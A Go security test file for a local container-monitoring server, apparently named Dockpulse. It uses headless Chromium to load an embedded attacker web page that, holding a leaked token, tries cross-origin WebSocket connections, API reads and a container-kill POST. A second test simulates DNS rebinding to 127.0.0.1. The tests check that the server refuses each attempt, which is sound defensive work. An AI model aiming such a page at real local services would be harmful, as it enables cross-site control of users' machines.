//go:build unix

package server

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync"
	"syscall"
	"testing"
	"testing/fstest"
	"time"
)

// findChromium returns the headless browser, or skips (fails in CI) without
// one.
func findChromium(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	msg := "no chromium on PATH (apt-get install chromium)"
	if os.Getenv("CI") != "" {
		t.Fatal(msg + " (CI is set, so this fails instead of skipping)")
	}
	t.Skip(msg)
	return ""
}

// attackerPage tries, from its own origin, everything a web page the user
// happens to open could try against Dockpulse, even knowing the token (the
// worst case: it leaked), and writes each outcome into the page.
const attackerPage = `<!doctype html>
<html><body><pre id="out">pending</pre>
<script>
const target = %q, token = %q;
const results = {};
function note(k, v) {
  results[k] = v;
  document.getElementById('out').textContent = 'RESULTS ' + JSON.stringify(results) + ' END';
  // Same-origin, to the attacker's own server: the test's witness.
  fetch('/report', {method: 'POST', body: JSON.stringify(results)});
}
function ws(name, url) {
  try {
    const s = new WebSocket(url);
    s.onopen = () => note(name, 'open');
    s.onmessage = (e) => note(name, 'message ' + String(e.data).slice(0, 40));
    s.onerror = () => { if (!results[name]) note(name, 'error'); };
    s.onclose = (e) => { if (!results[name] || results[name] === 'error') note(name, 'closed ' + e.code); };
  } catch (e) { note(name, 'threw ' + e); }
}
function get(name, url, opts) {
  fetch(url, opts).then(
    (r) => r.text().then((t) => note(name, 'response ' + r.type + ' ' + r.status + ' ' + t.slice(0, 60))),
    (e) => note(name, 'rejected ' + e.name));
}
ws('ws_with_token', 'ws://' + target + '/ws?token=' + token);
ws('ws_without_token', 'ws://' + target + '/ws');
get('fetch_snapshot', 'http://' + target + '/api/snapshot?token=' + token);
get('fetch_no_cors', 'http://' + target + '/api/snapshot?token=' + token, {mode: 'no-cors'});
get('post_action_no_cors', 'http://' + target + '/api/engines/default/containers/abc/kill?token=' + token, {method: 'POST', mode: 'no-cors'});
get('fetch_bearer', 'http://' + target + '/api/snapshot', {headers: {'Authorization': 'Bearer ' + token}});
</script></body></html>`

// TestCrossOriginPageInRealBrowser opens an attacker's page, served from
// another local port, in headless Chromium. The page knows the token and
// tries the WebSocket and the polling API (plain, no-cors, with a bearer
// header, and a state-changing POST). Each must fail in the page, and the
// server's log must show it refused each request that reached it for its
// Origin, as the browser sends one on all of them.
func TestCrossOriginPageInRealBrowser(t *testing.T) {
	chromium := findChromium(t)
	f := startAttackServer(t, Config{})
	f.publish(t, 20*time.Millisecond)
	healthy := newHealthyClient(t, f)

	page := fmt.Sprintf(attackerPage, f.srv.Addr(), f.srv.Token())
	attempts := []string{"ws_with_token", "ws_without_token", "fetch_snapshot", "fetch_no_cors", "post_action_no_cors", "fetch_bearer"}
	reports := make(chan map[string]string, 100)
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost && r.URL.Path == "/report" {
			var got map[string]string
			if err := json.NewDecoder(r.Body).Decode(&got); err == nil {
				select {
				case reports <- got:
				default:
				}
			}
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = w.Write([]byte(page))
	}))
	defer attacker.Close()

	// The browser runs in real time until the page has reported an outcome
	// for every attempt (virtual time does not wait for WebSocket
	// handshakes, so --dump-dom could cut them short).
	stop := startHeadless(t, chromium, attacker.URL+"/")
	var results map[string]string
	deadline := time.After(60 * time.Second)
	for len(results) < len(attempts) {
		select {
		case results = <-reports:
		case <-deadline:
			stop()
			t.Fatalf("the page reported only %v", results)
		}
	}
	stop()
	t.Logf("outcomes in the browser: %v", results)
	for _, name := range attempts {
		got, ok := results[name]
		if !ok {
			t.Errorf("%s: no outcome (the browser never finished it)", name)
			continue
		}
		switch {
		case strings.HasPrefix(got, "open"), strings.HasPrefix(got, "message"):
			t.Errorf("%s: the attacker page got a live stream: %s", name, got)
		case strings.HasPrefix(got, "response basic"), strings.HasPrefix(got, "response cors"):
			t.Errorf("%s: the attacker page read a response: %s", name, got)
		}
	}

	// What reached the server was refused, for the attacker's origin.
	origin := attacker.URL
	refusals := map[string]bool{}
	for _, line := range f.logs.lines(`"msg":"refused request"`) {
		var entry struct{ Path, Origin, Reason string }
		if err := json.Unmarshal([]byte(line), &entry); err != nil {
			t.Fatalf("log line %s: %v", line, err)
		}
		if entry.Origin == origin && entry.Reason == "origin not allowed" {
			refusals[entry.Path] = true
		}
	}
	for _, path := range []string{"/ws", "/api/snapshot", "/api/engines/default/containers/abc/kill"} {
		if !refusals[path] {
			t.Errorf("no refusal of %s for Origin %s logged; refusals seen: %v", path, origin, refusals)
		}
	}
	healthy.stillReceiving(t, "the attacker page")
}

// TestRebindingNameInRealBrowser loads the API and the UI under a foreign
// name that resolves to 127.0.0.1 (what DNS rebinding achieves), in headless
// Chromium, with the token: the browser sends that name as Host, and the
// server answers 403 instead of data or a page that would run with the
// attacker's origin.
func TestRebindingNameInRealBrowser(t *testing.T) {
	chromium := findChromium(t)
	f := startAttackServer(t, Config{UI: fstest.MapFS{"index.html": {Data: []byte("<p>DOCKPULSE UI</p>")}}})
	port := port(f.srv.Addr())
	for _, path := range []string{"/api/snapshot?token=" + f.srv.Token(), "/"} {
		dom := runHeadless(t, chromium, "http://rebind.example:"+port+path, "--host-resolver-rules=MAP rebind.example 127.0.0.1")
		if strings.Contains(dom, "DOCKPULSE UI") || strings.Contains(dom, `"engines"`) || !strings.Contains(dom, "host not allowed") {
			t.Errorf("%s under a rebound name: DOM\n%s", path, dom)
		}
	}
	// The same page under its own name loads: the refusal was the Host's.
	if dom := runHeadless(t, chromium, "http://127.0.0.1:"+port+"/"); !strings.Contains(dom, "DOCKPULSE UI") {
		t.Errorf("the UI under 127.0.0.1: DOM\n%s", dom)
	}
}

// startHeadless opens url in headless Chromium, in its own process group,
// and returns a function that kills that group and waits for it.
func startHeadless(t *testing.T, chromium, url string) (stop func()) {
	t.Helper()
	cmd := exec.Command(chromium,
		"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--disable-dev-shm-usage", "--user-data-dir="+t.TempDir(), url)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	var stderr strings.Builder
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatalf("chromium: %v", err)
	}
	var once sync.Once
	stop = func() {
		once.Do(func() {
			_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) // the browser and its helpers
			_ = cmd.Wait()                                      // killed: its status says so
		})
	}
	t.Cleanup(stop)
	return stop
}

// runHeadless loads url in headless Chromium and returns the DOM after the
// page's script had a few seconds of (virtual) time.
func runHeadless(t *testing.T, chromium, url string, extra ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	args := []string{
		"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--disable-dev-shm-usage",
		"--user-data-dir=" + t.TempDir(),
		"--virtual-time-budget=5000",
	}
	args = append(append(args, extra...), "--dump-dom", url)
	cmd := exec.CommandContext(ctx, chromium, args...)
	var stderr strings.Builder
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("chromium: %v\n%s", err, stderr.String())
	}
	return string(out)
}
